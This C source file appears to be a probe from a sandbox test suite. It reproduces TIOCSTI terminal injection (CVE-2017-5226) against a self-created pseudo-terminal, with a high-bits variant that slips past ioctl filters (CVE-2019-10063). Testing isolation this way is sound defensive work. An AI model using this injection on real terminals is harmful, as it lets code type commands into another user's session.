/*
 * Types a command into the terminal of whoever started the build (TIOCSTI, CVE-2017-5226); a fresh pseudo-terminal
 * stands for it. With upper-bits, the request carries rubbish in its upper half, as in CVE-2019-10063: the kernel
 * looks at 32 bits only, and so must a filter.
 * usage: terminal plain|upper-bits
 */
#include "attack.h"

#include <fcntl.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/wait.h>

static void type_into(int slave, unsigned long request) {
    char seen[8];
    for (const char *c = "id\n"; *c != '\0'; c++)
        if (syscall(SYS_ioctl, slave, request, c) != 0)
            failed("TIOCSTI");
    struct pollfd p = {slave, POLLIN, 0};
    if (poll(&p, 1, 500) != 1 || read(slave, seen, sizeof seen) != 3)
        stopped("nothing was typed");
    reached("typed a line into the terminal");
}

int main(int argc, char **argv) {
    if (argc != 2)
        cannot("usage: terminal plain|upper-bits");
    unsigned long request = TIOCSTI | (strcmp(argv[1], "upper-bits") == 0 ? 0x100000000UL : 0);
    int master = posix_openpt(O_RDWR | O_NOCTTY);
    if (master < 0 || grantpt(master) != 0 || unlockpt(master) != 0)
        cannot("no pseudo-terminal: %s", strerror(errno));
    const char *name = ptsname(master);
    pid_t child = fork();
    if (child == 0) {
        setsid();
        int slave = open(name, O_RDWR);
        if (slave < 0 || ioctl(slave, TIOCSCTTY, 0) != 0)
            cannot("controlling terminal: %s", strerror(errno));
        type_into(slave, request);
    }
    int status;
    waitpid(child, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}
